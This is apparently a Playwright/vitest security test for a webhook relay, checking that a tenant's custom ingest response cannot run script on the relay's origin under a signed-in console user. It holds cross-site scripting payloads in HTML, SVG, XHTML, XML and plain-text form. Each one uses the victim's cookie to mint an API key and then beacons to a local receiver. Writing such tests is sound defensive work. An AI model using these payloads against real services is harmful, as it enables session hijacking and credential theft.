/**
 * Tenant-controlled content on the relay's origin (docs/security.md), in headless
 * Chromium against a real relay: a console user is signed in, then opens another
 * (anonymous) account's ingest URL in the same browser. Whatever custom response that
 * account can set, its script must not run on the relay's origin: no API key is minted
 * with the victim's console cookie, no request leaves the page, the title is unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { browserSuite, launchBrowser } from '../support/browser.ts';
import { signInToConsole } from '../support/console.ts';
import { startReceiver, type Receiver } from '../support/receiver.ts';
import { api, createEndpoint, signUp, startTestRelay, type TestRelay } from '../support/relay.ts';

let relay: TestRelay;
let beacon: Receiver;
let browser: Browser | undefined;
let page: Page;
let victimKey: string;
let attackerKey: string;
let attackerEndpoint: any;

/**
 * What the attacker's page runs: a synchronous same-origin request that would mint a key
 * with the console's cookie and header, then a synchronous request to a local receiver.
 * Both finish before the load event, so the test needs no wait once the page has loaded.
 */
function mintScript(): string {
  return [
    'var x = new XMLHttpRequest(); x.open("POST", "/v1/api-keys", false);',
    'x.setRequestHeader("X-Hook-Console", "1"); x.setRequestHeader("Content-Type", "application/json");',
    'try { x.send(JSON.stringify({ name: "pwned" })); } catch (e) {}',
    'document.title = "ran " + x.status;',
    `var b = new XMLHttpRequest(); b.open("GET", ${JSON.stringify(`BEACON/ran`)} + "?status=" + x.status, false); try { b.send(); } catch (e) {}`,
  ].join('\n');
}

beforeAll(async () => {
  relay = await startTestRelay({ allowPrivateDestinations: true });
  beacon = await startReceiver(() => ({ status: 200, body: 'seen', headers: { 'access-control-allow-origin': '*' } }));
  ({ key: victimKey } = await signUp(relay.baseUrl));
  ({ key: attackerKey } = await signUp(relay.baseUrl));
  attackerEndpoint = await createEndpoint(relay.baseUrl, attackerKey, { name: 'bait' });
}, 120_000);
browserSuite(async ({ watch }) => {
  browser = await launchBrowser();
  const context = await browser.newContext({ viewport: { width: 1000, height: 700 } });
  page = await context.newPage();
  watch(page);
  await signInToConsole(page, relay.baseUrl, victimKey);
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await beacon?.close();
  await relay?.close();
});

const pwnedKeys = async () => ((await api(relay.baseUrl, 'GET', '/v1/api-keys', { key: victimKey })).body.data as Array<{ name: string }>).filter((key) => key.name === 'pwned').length;

describe('an attacker\'s custom response opened by a signed-in console user', () => {
  it('the attack is real: the same script run on the console\'s own page mints a key with the cookie', async () => {
    const status = await page.evaluate(() => {
      const request = new (globalThis as any).XMLHttpRequest();
      request.open('POST', '/v1/api-keys', false);
      request.setRequestHeader('X-Hook-Console', '1');
      request.setRequestHeader('Content-Type', 'application/json');
      request.send(JSON.stringify({ name: 'control' }));
      return request.status;
    });
    expect(status).toBe(201);
  });

  it('never runs: HTML and SVG are refused, XML with an XHTML script and text with HTML load sandboxed', async () => {
    const script = mintScript().replace('BEACON', beacon.url);
    const attempts: Array<[string, Record<string, string>, string]> = [
      ['text/html', { 'Content-Type': 'text/html; charset=utf-8' }, `<!doctype html><title>bait</title><script>${script}</script>`],
      ['image/svg+xml', { 'Content-Type': 'image/svg+xml' }, `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`],
      ['application/xhtml+xml', { 'Content-Type': 'application/xhtml+xml' }, `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>bait</title><script>${script}</script></head><body/></html>`],
      ['application/xml', { 'Content-Type': 'application/xml' }, `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>bait</title><script>//<![CDATA[\n${script}\n//]]></script></head><body/></html>`],
      ['text/xml', { 'Content-Type': 'text/xml' }, `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>bait</title><script>//<![CDATA[\n${script}\n//]]></script></head><body/></html>`],
      ['text/plain', { 'Content-Type': 'text/plain' }, `<!doctype html><title>bait</title><script>${script}</script>`],
      ['no type', {}, `<!doctype html><title>bait</title><script>${script}</script>`],
    ];
    const refused: string[] = [];
    for (const [label, headers, body] of attempts) {
      const set = await api(attackerEndpoint.url.replace(/\/v1\/ingest\/.*$/, ''), 'PATCH', `/v1/endpoints/${attackerEndpoint.id}`, { key: attackerKey, json: { response: { headers, body } } });
      if (set.status === 400) {
        expect(set.body.errors.map((error: any) => error.field), label).toEqual(['body.response.headers.Content-Type']);
        refused.push(label);
        continue;
      }
      expect(set.status, `${label}: ${JSON.stringify(set.body)}`).toBe(200);
      // Opened as a link would be: a top-level navigation, so the SameSite=Strict cookie goes along.
      const answer = await page.goto(attackerEndpoint.url);
      expect(answer?.status(), label).toBe(200);
      expect(await pwnedKeys(), label).toBe(0);
      expect(beacon.requests.map((request) => request.url), label).toEqual([]);
      expect(await page.title(), label).not.toMatch(/^ran/);
      expect(await answer?.headerValue('content-security-policy'), label).toMatch(/^sandbox;/);
    }
    expect(refused).toEqual(['text/html', 'image/svg+xml', 'application/xhtml+xml']);
  });
});
